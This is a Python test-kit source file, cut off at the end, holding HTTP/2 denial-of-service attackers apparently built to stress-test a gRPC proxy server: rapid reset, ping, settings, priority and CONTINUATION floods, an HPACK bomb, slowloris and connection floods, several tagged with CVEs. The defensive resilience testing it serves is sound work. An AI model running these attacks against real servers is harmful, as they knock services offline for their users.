"""HTTP/2 attackers, each run as its own process so its CPU is not the test's.

    python -m testkit.attacks.attackers NAME --host 127.0.0.1 --port P --seconds S
                                      [--connections N] [--target AUTHORITY]

Plain blocking sockets with timeouts, frames built here (RFC 9113), header blocks
from the `hpack` package or written out byte by byte where the point is to be
malformed. Every loop is bounded by the deadline and by a count; nothing waits on
the server without a timeout. `--seconds` is a cap, not a duration: an attack ends as
soon as it has what it came for (the server's GOAWAY, its close, an answer), so a
slow machine makes it last longer, never fail. The run ends with ONE JSON line on stdout:

    {"attack", "seconds", "frames_sent", "bytes_sent", "connections",
     "goaway_codes": [...], "rst_codes": {"0x1": n, ...},
     "closed_by_server": bool, "connections_closed_by_server": n,
     "closed_after_s": first close (seconds after that connection opened) or null,
     "closed_after_max_s": last close or null, "extra": {...}}
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import hpack

from h2grpc.frames import integer, literal
from linkerd_api.proto import destination_pb2

# --------------------------------------------------------------------- framing
# Our own constants and builders (RFC 9113 §6), so this depends on no server code.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x5, 0x6, 0x7, 0x8, 0x9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
INITIAL_WINDOW_SIZE = 0x4
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB
MAX_FRAME = 16_384
MAX_STREAM_ID = 2**31 - 1
MAX_PENDING = 1 << 20  # bytes queued for a server that does not read

GET_PATH = b"/io.linkerd.proxy.destination.Destination/Get"
DEFAULT_FLOOD_TARGET = "web-svc.emojivoto.svc.cluster.local:80"
_HEADER = struct.Struct(">BHBBI")


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return _HEADER.pack(n >> 16, n & 0xFFFF, kind, flags, stream_id) + payload


def settings(values: dict[int, int] | None = None) -> bytes:
    body = b"".join(struct.pack(">HI", k, v) for k, v in (values or {}).items())
    return frame(SETTINGS, 0, 0, body)


SETTINGS_ACK = frame(SETTINGS, ACK, 0)


def ping(opaque: bytes = b"attack!!", ack: bool = False) -> bytes:
    return frame(PING, ACK if ack else 0, 0, opaque[:8].ljust(8, b"\0"))


def window_update(stream_id: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def rst_stream(stream_id: int, code: int) -> bytes:
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def priority(stream_id: int, depends_on: int, weight: int) -> bytes:
    return frame(PRIORITY, 0, stream_id, struct.pack(">IB", depends_on, weight))


def headers(stream_id: int, block: bytes, end_stream: bool, end_headers: bool = True) -> bytes:
    flags = (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0)
    return frame(HEADERS, flags, stream_id, block)


def continuation(stream_id: int, block: bytes, end_headers: bool) -> bytes:
    return frame(CONTINUATION, END_HEADERS if end_headers else 0, stream_id, block)


def data(stream_id: int, payload: bytes, end_stream: bool) -> bytes:
    return frame(DATA, END_STREAM if end_stream else 0, stream_id, payload)


# ------------------------------------------------------------------------ HPACK
# Literals without indexing come from h2grpc.frames (what the server sends), the
# rest is built here on its integer encoding.

def literal_indexed(name: bytes, value: bytes) -> bytes:
    """Literal field WITH incremental indexing: the decoder adds it to its table."""
    return b"\x40" + integer(len(name), 7) + name + integer(len(value), 7) + value


def indexed(index: int) -> bytes:
    return integer(index, 7, 0x80)


def request_fields(path: bytes, method: bytes = b"POST", grpc: bool = True
                   ) -> list[tuple[bytes, bytes]]:
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path),
              (b":authority", b"meshbridge")]
    if grpc:
        fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return fields


def stateless_block(fields: list[tuple[bytes, bytes]]) -> bytes:
    """An hpack-encoded block of never-indexed fields: it changes no dynamic table, so
    the same bytes can be sent any number of times on any connection."""
    return bytes(hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(n, v) for n, v in fields], huffman=False))


def grpc_message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def get_destination(target: str) -> bytes:
    msg = destination_pb2.GetDestination(scheme="k8s", path=target)
    return grpc_message(msg.SerializeToString())


GET_BLOCK = stateless_block(request_fields(GET_PATH))


# ------------------------------------------------------------------- connection

@dataclass
class Stats:
    frames_sent: int = 0
    bytes_sent: int = 0
    conns: list[Conn] = field(default_factory=list)
    extra: dict[str, Any] = field(default_factory=dict)


class Conn:
    """One client connection: sends frames, reads (only when asked) what the server
    says, and records GOAWAYs, RST_STREAMs, responses and when the server closed."""

    def __init__(self, stats: Stats, host: str, port: int, *,
                 local_settings: dict[int, int] | None = None, handshake: bool = True,
                 ack_settings: bool = True, answer_pings: bool = True) -> None:
        self.stats = stats
        self.ack_settings = ack_settings
        self.answer_pings = answer_pings
        self.opened = time.monotonic()
        self.closed_at: float | None = None  # seconds after opening, when the server closed
        self.closed_by_server = False
        self.stalled = False  # the server stopped reading at some point (queue full)
        self._out = bytearray()
        self.goaways: list[int] = []
        self.rsts: Counter[int] = Counter()
        self.rst_by_stream: dict[int, int] = {}
        self.responses: dict[int, list[tuple[str, str]]] = {}  # first header block per stream
        self.data_bytes = 0
        self.pings = 0
        self.settings_seen = 0
        self.bytes_read = 0
        self.next_stream = 1
        self._buf = bytearray()
        self._block: tuple[int, bytearray] | None = None
        self._decoder = hpack.Decoder()
        self._decoder.max_header_list_size = 1 << 20
        self.sock = socket.create_connection((host, port), timeout=2.0)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        stats.conns.append(self)
        if handshake:
            self.send(PREFACE + settings(local_settings), frames=1)

    @property
    def closed(self) -> bool:
        return self.closed_at is not None or self.sock.fileno() < 0

    def fileno(self) -> int:  # for select()
        return self.sock.fileno()

    def stream_id(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def send(self, payload: bytes, frames: int = 1) -> bool:
        """Queue whole frames and write what the socket takes now (never a cut frame:
        the rest waits in the queue). False if the server closed, or if over
        MAX_PENDING still waits because the server does not read: then wait
        (`wait_writable`) and send again."""
        if self.closed:
            return False
        if len(self._out) > MAX_PENDING:
            self.flush()
            if len(self._out) > MAX_PENDING:
                self.stalled = True
                return False
        self._out += payload
        self.stats.frames_sent += frames
        self.flush()
        return not self.closed

    def push(self, payload: bytes, frames: int, read: bool) -> bool:
        """send(), or, while the server does not take more, wait up to 50 ms for it
        (reading meanwhile if `read`). False if not sent (closed, or still blocked)."""
        if self.send(payload, frames):
            return True
        if not self.closed:
            self.wait_writable(0.05)
            if read:
                self.poll()
        return False

    @property
    def pending(self) -> int:
        return len(self._out)

    def flush(self) -> None:
        while self._out and not self.closed:
            try:
                n = self.sock.send(self._out)
            except BlockingIOError:
                return
            except OSError:
                self._server_closed()
                return
            self.stats.bytes_sent += n
            del self._out[:n]

    def wait_writable(self, timeout: float) -> None:
        if not self.closed:
            select.select([], [self], [], timeout)
            self.flush()

    def poll(self, wait: float = 0.0, max_bytes: int = 1 << 20,
             until: float | None = None) -> None:
        """Read what the server sent: wait up to `wait` for the first bytes, then take
        what is already there, at most `max_bytes` and not past `until`."""
        self.flush()
        if self.closed:
            return
        if wait > 0:
            select.select([self], [], [], wait)
        got = 0
        while got < max_bytes and not self.closed:
            if until is not None and time.monotonic() > until:
                break
            try:
                chunk = self.sock.recv(262_144)
            except BlockingIOError:
                break
            except OSError:
                self._server_closed()
                break
            if not chunk:
                self._server_closed()
                break
            got += len(chunk)
            self.bytes_read += len(chunk)
            self._buf += chunk
            self._parse()
        self.flush()

    def drain(self, seconds: float) -> None:
        """Read until the server closes or `seconds` pass (the end of a run that never
        read)."""
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            self.poll(wait=min(0.1, max(0.001, end - time.monotonic())), max_bytes=8 << 20,
                      until=end)

    def close(self) -> None:
        if self.sock.fileno() >= 0:
            self.sock.close()

    def _server_closed(self) -> None:
        if self.closed_at is None:
            self.closed_at = time.monotonic() - self.opened
            self.closed_by_server = True
        self.sock.close()

    def _parse(self) -> None:
        buf, offset = self._buf, 0
        while len(buf) - offset >= 9:
            length = (buf[offset] << 16) | (buf[offset + 1] << 8) | buf[offset + 2]
            end = offset + 9 + length
            if end > len(buf):
                break
            kind, flags = buf[offset + 3], buf[offset + 4]
            sid = int.from_bytes(buf[offset + 5:offset + 9], "big") & MAX_STREAM_ID
            self._frame(kind, flags, sid, bytes(buf[offset + 9:end]))
            offset = end
        del buf[:offset]

    def _frame(self, kind: int, flags: int, sid: int, payload: bytes) -> None:
        if kind == GOAWAY and len(payload) >= 8:
            self.goaways.append(int.from_bytes(payload[4:8], "big"))
        elif kind == RST_STREAM and len(payload) >= 4:
            code = int.from_bytes(payload[:4], "big")
            self.rsts[code] += 1
            self.rst_by_stream[sid] = code
        elif kind == SETTINGS and not flags & ACK:
            self.settings_seen += 1
            if self.ack_settings:
                self.send(SETTINGS_ACK)
        elif kind == PING and not flags & ACK:
            self.pings += 1
            if self.answer_pings:
                self.send(ping(payload, ack=True))
        elif kind == DATA:
            self.data_bytes += len(payload)
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                self._block = (sid, bytearray(_strip_headers_payload(flags, payload)))
            elif self._block is not None:
                self._block[1].extend(payload)
            if flags & END_HEADERS and self._block is not None:
                stream, block = self._block
                self._block = None
                try:
                    fields = [(_text(n), _text(v))
                              for n, v in self._decoder.decode(bytes(block))]
                except hpack.HPACKError:
                    fields = [("<undecodable>", "")]
                self.responses.setdefault(stream, fields)

    def status(self, sid: int) -> str:
        """What the server said on a stream: 'rst:0x1', ':status 200 grpc-status 12', ..."""
        if sid in self.rst_by_stream:
            return f"rst:{self.rst_by_stream[sid]:#x}"
        fields = dict(self.responses.get(sid, []))
        if not fields:
            return "none"
        out = f":status {fields.get(':status', '?')}"
        if "grpc-status" in fields:
            out += f" grpc-status {fields['grpc-status']}"
        return out


def _text(value: str | bytes) -> str:
    return value.decode("latin-1") if isinstance(value, bytes) else value


def _strip_headers_payload(flags: int, payload: bytes) -> bytes:
    start, end = 0, len(payload)
    if flags & 0x8 and payload:  # PADDED
        start, end = 1, len(payload) - payload[0]
    if flags & 0x20:  # PRIORITY
        start += 5
    return payload[start:max(start, end)]


def watch(conns: list[Conn], until: float, stop_when_all_closed: bool = True) -> None:
    """Read every open connection until `until` (or until all are closed)."""
    while time.monotonic() < until:
        live = [c for c in conns if not c.closed]
        if not live and stop_when_all_closed:
            return
        if not live:
            time.sleep(min(0.05, max(0.0, until - time.monotonic())))  # pacing
            continue
        wait = min(0.05, max(0.0, until - time.monotonic()))
        readable, _, _ = select.select(live, [], [], wait)
        for c in readable:
            c.poll(max_bytes=1 << 18)


# ---------------------------------------------------------------------- attacks

@dataclass(frozen=True)
class Args:
    host: str
    port: int
    seconds: float
    connections: int | None
    target: str

    @property
    def deadline(self) -> float:
        return START + self.seconds


START = time.monotonic()
Attack = Callable[[Args, Stats], None]
ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    def register(fn: Attack) -> Attack:
        ATTACKS[name] = fn
        return fn
    return register


def _connect(a: Args, stats: Stats, **kw: Any) -> Conn | None:
    try:
        return Conn(stats, a.host, a.port, **kw)
    except OSError as e:
        stats.extra["connect_errors"] = stats.extra.get("connect_errors", 0) + 1
        stats.extra["last_connect_error"] = str(e)
        time.sleep(0.01)  # pacing: a refused connect is retried, not spun on
        return None


def _handshake(c: Conn, a: Args) -> None:
    """Wait for the server's SETTINGS, which poll() acknowledges."""
    while not c.closed and c.settings_seen == 0 and time.monotonic() < a.deadline:
        c.poll(wait=0.05)


def _open_gets(c: Conn, count: int, target: str) -> int:
    """`count` Get streams (HEADERS, then the request as DATA with END_STREAM)."""
    body = get_destination(target)
    opened, batch = 0, bytearray()
    for i in range(count):
        sid = c.stream_id()
        batch += headers(sid, GET_BLOCK, end_stream=False) + data(sid, body, end_stream=True)
        if len(batch) > 32_768 or i == count - 1:
            n = (i + 1) - opened
            if not c.send(bytes(batch), frames=2 * n) and c.closed:
                break
            opened, batch = i + 1, bytearray()
            c.poll()
    return opened


def _flood(a: Args, c: Conn, chunk: bytes, frames: int, read: bool, max_rounds: int) -> int:
    """Send `chunk` (holding `frames` frames) until the deadline or a close; between
    rounds read what arrived if `read`. Returns rounds sent."""
    rounds = 0
    while rounds < max_rounds and time.monotonic() < a.deadline and not c.closed:
        if not c.push(chunk, frames, read):
            continue  # closed (the loop ends), or the server is not reading: try again
        rounds += 1
        if read:
            c.poll()
    return rounds


def _blocked_streams_then(a: Args, stats: Stats, chunk: bytes, frames: int,
                          streams: int = 500, read: bool = True) -> None:
    """Window 0 for our streams, `streams` Get streams whose responses are thus
    blocked, then `chunk` as a flood (reading between rounds, or never)."""
    c = _connect(a, stats, local_settings={INITIAL_WINDOW_SIZE: 0})
    if c is None:
        return
    _handshake(c, a)
    stats.extra["streams_opened"] = _open_gets(c, streams, a.target or DEFAULT_FLOOD_TARGET)
    c.poll(wait=0.2)
    if read:
        stats.extra["rounds"] = _flood(a, c, chunk, frames, read=True, max_rounds=10_000_000)
    else:
        stats.extra["rounds"] = _flood_unread(a, c, chunk, frames, max_frames=100_000)
    c.drain(max(0.0, a.deadline - time.monotonic()))


@attack("window-update-flood")
def window_update_flood(a: Args, stats: Stats) -> None:
    """Window 0 for our streams, ~500 Get streams whose responses are thus blocked,
    then connection-level WINDOW_UPDATE(+1) as fast as possible."""
    _blocked_streams_then(a, stats, window_update(0, 1) * 1000, 1000)


@attack("settings-toggle")
def settings_toggle(a: Args, stats: Stats) -> None:
    """The same blocked streams, then SETTINGS toggling INITIAL_WINDOW_SIZE 0 <-> 1."""
    pair = settings({INITIAL_WINDOW_SIZE: 1}) + settings({INITIAL_WINDOW_SIZE: 0})
    _blocked_streams_then(a, stats, pair * 500, 1000)


# Connections a reconnecting flood sees cut off before it stops.
CUT_OFFS = 3


def _reconnecting_flood(a: Args, stats: Stats, batch: Callable[[Conn], bytes],
                        frames: int, cut_offs: int = CUT_OFFS) -> int:
    """Send `batch(conn)` (`frames` frames) as fast as the server reads,
    reconnecting whenever it closes the connection, until `cut_offs` connections got a
    GOAWAY; how many batches went out."""
    sent = 0
    for _ in range(10_000):
        if time.monotonic() >= a.deadline or sum(
                1 for c in stats.conns if c.goaways) >= cut_offs:
            break
        c = _connect(a, stats)
        if c is None:
            continue
        _handshake(c, a)
        while not c.closed and time.monotonic() < a.deadline:
            if c.next_stream > MAX_STREAM_ID - 1000:
                c.close()
                break
            first = c.next_stream
            if not c.push(batch(c), frames, read=True):
                c.next_stream = first  # not sent: those stream ids are still unused
                continue
            sent += 1
            c.poll()
        if not c.closed:
            c.drain(max(0.0, a.deadline - time.monotonic()))
            c.close()
    return sent


@attack("rapid-reset")
def rapid_reset(a: Args, stats: Stats) -> None:
    """HEADERS then RST_STREAM(CANCEL), pairs as fast as possible; reconnects whenever
    the server closes the connection (CVE-2023-44487)."""
    def pairs(c: Conn) -> bytes:
        batch = bytearray()
        for _ in range(200):
            sid = c.stream_id()
            batch += headers(sid, GET_BLOCK, end_stream=False) + rst_stream(sid, CANCEL)
        return bytes(batch)

    stats.extra["pairs"] = 200 * _reconnecting_flood(a, stats, pairs, 400)


def _flood_unread(a: Args, c: Conn, chunk: bytes, frames: int, max_frames: int) -> int:
    """`chunk` over and over without reading, until `max_frames` frames went out, the
    server stopped reading us or closed. Returns rounds sent."""
    rounds = 0
    while rounds * frames < max_frames and time.monotonic() < a.deadline and not c.closed:
        if c.push(chunk, frames, read=False):
            rounds += 1
        elif c.stalled:
            break  # the server stopped reading us: the flood did what it could
    return rounds


def _no_read_flood(a: Args, stats: Stats, chunk: bytes, frames: int, max_frames: int) -> None:
    """`chunk` over and over without reading (`_flood_unread`); then read what the
    server said."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    stats.extra["rounds"] = _flood_unread(a, c, chunk, frames, max_frames)
    stats.extra["stalled"] = c.stalled
    c.drain(max(0.0, a.deadline - time.monotonic()))
    stats.extra["bytes_read"] = c.bytes_read


@attack("ping-flood")
def ping_flood(a: Args, stats: Stats) -> None:
    """PINGs without ever reading their ACKs (CVE-2019-9512)."""
    _no_read_flood(a, stats, ping() * 1000, 1000, max_frames=100_000)


@attack("settings-flood")
def settings_flood(a: Args, stats: Stats) -> None:
    """SETTINGS without ever reading their ACKs (CVE-2019-9515)."""
    _no_read_flood(a, stats, settings({INITIAL_WINDOW_SIZE: 65_535}) * 1000, 1000,
                   max_frames=100_000)


# A request the server must reset: an uppercase field name makes it malformed
# (RFC 9113 §8.2.1), a stream error PROTOCOL_ERROR.
MALFORMED_BLOCK = GET_BLOCK + literal(b"X-Uppercase", b"1")


@attack("reset-trigger-flood")
def reset_trigger_flood(a: Args, stats: Stats) -> None:
    """Malformed requests, each provoking a RST_STREAM, never reading (CVE-2019-9514)."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    sent = 0
    # Ten times the server's budget, unless it stops reading us or closes first.
    while sent < 10_000 and time.monotonic() < a.deadline and not c.closed:
        first = c.next_stream
        batch = b"".join(headers(c.stream_id(), MALFORMED_BLOCK, end_stream=True)
                         for _ in range(200))
        if c.push(batch, 200, read=False):
            sent += 200
        else:
            c.next_stream = first
            if c.stalled:
                break
    stats.extra["requests"] = sent
    c.drain(max(0.0, a.deadline - time.monotonic()))


def _open_get(c: Conn, target: str, end: bool = False) -> int:
    sid = c.stream_id()
    c.send(headers(sid, GET_BLOCK, end_stream=False)
           + data(sid, get_destination(target), end_stream=end), frames=2)
    return sid


@attack("empty-frames")
def empty_frames(a: Args, stats: Stats) -> None:
    """Empty DATA frames without END_STREAM on one open stream (CVE-2019-9518)."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    sid = c.stream_id()
    c.send(headers(sid, GET_BLOCK, end_stream=False))
    stats.extra["rounds"] = _flood(a, c, data(sid, b"", False) * 1000, 1000, read=True,
                                   max_rounds=10_000_000)
    c.drain(max(0.0, a.deadline - time.monotonic()))


@attack("priority-flood")
def priority_flood(a: Args, stats: Stats) -> None:
    """PRIORITY frames for ever new (idle) streams, each depending on the one before
    (CVE-2019-9513)."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    rounds, sid = 0, 1
    while time.monotonic() < a.deadline and not c.closed and rounds < 1_000_000:
        if sid > MAX_STREAM_ID - 4000:
            break
        batch = bytearray()
        for _ in range(1000):
            batch += priority(sid, max(0, sid - 2), (sid * 7) & 0xFF)
            sid += 2
        if not c.push(bytes(batch), 1000, read=True):
            sid -= 2000
            continue
        rounds += 1
        c.poll()
    stats.extra["rounds"] = rounds
    c.drain(max(0.0, a.deadline - time.monotonic()))


# 16 fields of exactly 1,024 bytes: one CONTINUATION frame of 16 KiB of header bytes.
_FIELD_1K = literal(b"x-a", b"a" * 1016)
assert len(_FIELD_1K) == 1024


def _continuation_flood(a: Args, stats: Stats, payload: bytes) -> None:
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    sid = c.stream_id()
    c.send(headers(sid, GET_BLOCK, end_stream=True, end_headers=False))
    chunk = continuation(sid, payload, end_headers=False) * (4 if payload else 1000)
    rounds = _flood(a, c, chunk, 4 if payload else 1000, read=True, max_rounds=10_000_000)
    stats.extra["rounds"] = rounds
    stats.extra["header_bytes_sent"] = rounds * len(chunk) if payload else 0
    c.drain(max(0.0, a.deadline - time.monotonic()))


@attack("continuation-flood")
def continuation_flood(a: Args, stats: Stats) -> None:
    """HEADERS without END_HEADERS, then endless CONTINUATION frames of header fields."""
    _continuation_flood(a, stats, _FIELD_1K * 16)


@attack("empty-continuation")
def empty_continuation(a: Args, stats: Stats) -> None:
    """HEADERS without END_HEADERS, then endless empty CONTINUATION frames."""
    _continuation_flood(a, stats, b"")


JUNK_GRPC = stateless_block(request_fields(b"/x.Y/Z"))
JUNK_GET = stateless_block(request_fields(b"/", method=b"GET", grpc=False))


@attack("junk-requests")
def junk_requests(a: Args, stats: Stats) -> None:
    """Requests for an unknown gRPC method and plain GETs, as fast as possible,
    reconnecting when the server closes."""
    def requests(c: Conn) -> bytes:
        return b"".join(headers(c.stream_id(), JUNK_GRPC if i % 2 == 0 else JUNK_GET,
                                end_stream=True) for i in range(50))

    stats.extra["requests"] = 50 * _reconnecting_flood(a, stats, requests, 50)
    stats.extra["answered"] = sum(len(c.responses) for c in stats.conns)


@attack("hpack-bomb")
def hpack_bomb(a: Args, stats: Stats) -> None:
    """A ~4 KiB value inserted in the dynamic table, then header blocks that reference
    it hundreds of times each (a few hundred bytes on the wire, ~1 MiB decoded)."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    first = c.stream_id()
    c.send(headers(first, GET_BLOCK + literal_indexed(b"x-bomb", b"b" * 4000),
                   end_stream=True))
    bomb = GET_BLOCK + indexed(62) * 300  # 62: the newest dynamic table entry
    blocks = 0
    while time.monotonic() < a.deadline and not c.closed and blocks < 100_000:
        if c.next_stream > MAX_STREAM_ID - 100:
            break
        first = c.next_stream
        batch = b"".join(headers(c.stream_id(), bomb, end_stream=True) for _ in range(10))
        if not c.push(batch, 10, read=True):
            c.next_stream = first
            continue
        blocks += 10
        c.poll()
    stats.extra["bomb_blocks"] = blocks
    stats.extra["decoded_bytes_per_block"] = 300 * (6 + 4000)
    c.drain(max(0.0, a.deadline - time.monotonic()))


@attack("oversized-headers")
def oversized_headers(a: Args, stats: Stats) -> None:
    """One header block of ~80 KiB decoded (HEADERS + CONTINUATIONs), then a valid
    request on the same connection."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    sid = c.stream_id()
    block = GET_BLOCK + _FIELD_1K * 80
    pieces = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)]
    out = bytearray(headers(sid, pieces[0], end_stream=True, end_headers=len(pieces) == 1))
    for i, piece in enumerate(pieces[1:], start=2):
        out += continuation(sid, piece, end_headers=i == len(pieces))
    c.send(bytes(out), len(pieces))
    c.poll(wait=0.2)
    valid = _open_get(c, a.target or DEFAULT_FLOOD_TARGET, end=True)
    end = a.deadline
    while not c.closed and valid not in c.responses and time.monotonic() < end:
        c.poll(wait=0.05)
    stats.extra["oversized_stream"] = c.status(sid)
    stats.extra["valid_request"] = c.status(valid)
    c.drain(max(0.0, a.deadline - time.monotonic()))


@attack("empty-names")
def empty_names(a: Args, stats: Stats) -> None:
    """One request carrying 1,900 header fields with empty names."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    sid = c.stream_id()
    c.send(headers(sid, GET_BLOCK + b"\x00\x00\x00" * 1900, end_stream=True))
    end = a.deadline
    while not c.closed and sid not in c.responses and sid not in c.rst_by_stream \
            and time.monotonic() < end:
        c.poll(wait=0.05)
    stats.extra["stream"] = c.status(sid)
    c.drain(max(0.0, a.deadline - time.monotonic()))


_PSEUDO = stateless_block(request_fields(GET_PATH)[:4])
_REGULAR = stateless_block(request_fields(GET_PATH)[4:])
BAD_HEADERS: dict[str, bytes] = {
    "uppercase-name": GET_BLOCK + literal(b"X-Upper", b"1"),
    "connection": GET_BLOCK + literal(b"connection", b"keep-alive"),
    "transfer-encoding": GET_BLOCK + literal(b"transfer-encoding", b"chunked"),
    "pseudo-after-regular": _REGULAR + _PSEUDO,
    "unknown-pseudo": GET_BLOCK + literal(b":bogus", b"1"),
}


@attack("bad-headers")
def bad_headers(a: Args, stats: Stats) -> None:
    """Malformed requests, one per stream (each must be reset), then a valid request
    on the same connection (which must be answered)."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    streams = {}
    for name, block in BAD_HEADERS.items():
        sid = c.stream_id()
        streams[name] = sid
        c.send(headers(sid, block, end_stream=True))
    end = a.deadline
    while not c.closed and time.monotonic() < end and not all(
            s in c.rst_by_stream or s in c.responses for s in streams.values()):
        c.poll(wait=0.05)
    valid = _open_get(c, a.target or DEFAULT_FLOOD_TARGET, end=True)
    end = a.deadline
    while not c.closed and valid not in c.responses and time.monotonic() < end:
        c.poll(wait=0.05)
    stats.extra["bad"] = {name: c.status(sid) for name, sid in streams.items()}
    stats.extra["valid_request"] = c.status(valid)
    stats.extra["usable"] = not c.closed and c.status(valid).startswith(":status 200")
    c.close()


@attack("slowloris")
def slowloris(a: Args, stats: Stats) -> None:
    """N connections that send nothing at all."""
    conns = [c for _ in range(a.connections or 50) if (c := _connect(a, stats, handshake=False,
                                                                    ack_settings=False))]
    watch(conns, a.deadline)


@attack("no-settings-ack")
def no_settings_ack(a: Args, stats: Stats) -> None:
    """The preface and our SETTINGS, but the server's SETTINGS is never acknowledged."""
    c = _connect(a, stats, ack_settings=False)
    if c is not None:
        watch([c], a.deadline)
        stats.extra["settings_seen"] = c.settings_seen


@attack("silent-peer")
def silent_peer(a: Args, stats: Stats) -> None:
    """A full handshake and one open Get stream, then PINGs are never answered (and
    nothing more is read but to notice the close)."""
    c = _connect(a, stats)
    if c is None:
        return
    _handshake(c, a)
    sid = _open_get(c, a.target or DEFAULT_FLOOD_TARGET, end=True)
    end = a.deadline
    while not c.closed and sid not in c.responses and time.monotonic() < end:
        c.poll(wait=0.05)
    stats.extra["stream"] = c.status(sid)
    c.answer_pings = False
    silent_from = time.monotonic() - c.opened
    watch([c], a.deadline)
    stats.extra["silent_from_s"] = round(silent_from, 3)
    stats.extra["pings_unanswered"] = c.pings


@attack("connection-flood")
def connection_flood(a: Args, stats: Stats) -> None:
    """Many connections from one address, each with a full handshake, all held."""
    conns: list[Conn] = []
    for _ in range(a.connections or 300):
        if time.monotonic() >= a.deadline:
            break
        c = _connect(a, stats)
        if c is not None:
            conns.append(c)
            c.poll()
    stats.extra["opened"] = len(conns)
    # Until every connection is closed: those beyond the limit at once, the others
    # by the idle timeout.
    watch(conns, a.deadline, stop_when_all_closed=True)
    refused = [c for c in conns if ENHANCE_YOUR_CALM in c.goaways]
    stats.extra["refused"] = len(refused)
    stats.extra["held"] = len(conns) - len(refused)
    for c in conns:
        c.close()


@attack("zero-window-readers")
def zero_window_readers(a: Args, stats: Stats) -> None:
    """Connections with window 0, each with Get streams on the churned target, that
    never grant window (but answer PINGs, so they look alive)."""
    conns = [c for _ in range(a.connections or 20)
             if (c := _connect(a, stats, local_settings={INITIAL_WINDOW_SIZE: 0}))]
    streams = 0
    for c in conns:
        _handshake(c, a)
        streams += _open_gets(c, 25, a.target or DEFAULT_FLOOD_TARGET)
    stats.extra["streams_opened"] = streams
    watch(conns, a.deadline)
    stats.extra["data_bytes_received"] = sum(c.data_bytes for c in conns)


# ---------------------------------------------------- what attacks leave behind
# The shapes that once left the server's memory far above where it started: many
# connections each cut off, and one connection holding thousands of streams.


@attack("continuation-reconnect")
def continuation_reconnect(a: Args, stats: Stats) -> None:
    """Connection after connection (--connections, default 300), each a HEADERS frame
    without END_HEADERS followed by thousands of empty CONTINUATION frames."""
    def block(c: Conn) -> bytes:
        sid = c.stream_id()
        return headers(sid, GET_BLOCK, end_stream=True, end_headers=False) + continuation(
            sid, b"", end_headers=False) * 2000

    stats.extra["batches"] = _reconnecting_flood(a, stats, block, 2001,
                                                 cut_offs=a.connections or 300)


@attack("empty-names-reconnect")
def empty_names_reconnect(a: Args, stats: Stats) -> None:
    """Connection after connection (--connections, default 300), each sending header
    blocks of 1,900 empty literal header names."""
    def requests(c: Conn) -> bytes:
        return headers(c.stream_id(), GET_BLOCK + b"\x00\x00\x00" * 1900, end_stream=True)

    stats.extra["blocks"] = _reconnecting_flood(a, stats, requests, 1,
                                                cut_offs=a.connections or 300)


@attack("window-update-5000-streams")
def window_update_5000_streams(a: Args, stats: Stats) -> None:
    """window-update-flood with 5,000 blocked Get streams on the connection."""
    _blocked_streams_then(a, stats, window_update(0, 1) * 1000, 1000, streams=5000)


@attack("settings-toggle-5000-unread")
def settings_toggle_5000_unread(a: Args, stats: Stats) -> None:
    """5,000 blocked Get streams, then INITIAL_WINDOW_SIZE toggled 0 <-> 1, never
    reading what the server sends."""
    pair = settings({INITIAL_WINDOW_SIZE: 1}) + settings({INITIAL_WINDOW_SIZE: 0})
    _blocked_streams_then(a, stats, pair * 500, 1000, streams=5000, read=False)


# ------------------------------------------------------------------------- main

def summary(name: str, stats: Stats) -> dict[str, Any]:
    goaways = [code for c in stats.conns for code in c.goaways]
    rsts: Counter[int] = Counter()
    for c in stats.conns:
        rsts.update(c.rsts)
    closes = [c.closed_at for c in stats.conns if c.closed_by_server and c.closed_at is not None]
    return {
        "attack": name,
        "seconds": round(time.monotonic() - START, 3),
        "frames_sent": stats.frames_sent,
        "bytes_sent": stats.bytes_sent,
        "bytes_unsent": sum(c.pending for c in stats.conns),
        "connections": len(stats.conns),
        "goaway_codes": goaways[:50],
        "goaways": len(goaways),
        "rst_codes": {f"{k:#x}": v for k, v in sorted(rsts.items())},
        "closed_by_server": bool(closes),
        "connections_closed_by_server": len(closes),
        "closed_after_s": round(min(closes), 3) if closes else None,
        "closed_after_max_s": round(max(closes), 3) if closes else None,
        "extra": stats.extra,
    }


def main(argv: list[str]) -> int:
    p = argparse.ArgumentParser(prog="python -m testkit.attacks.attackers")
    p.add_argument("name", choices=sorted(ATTACKS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=3.0)
    p.add_argument("--connections", type=int, default=None)
    p.add_argument("--target", default="",
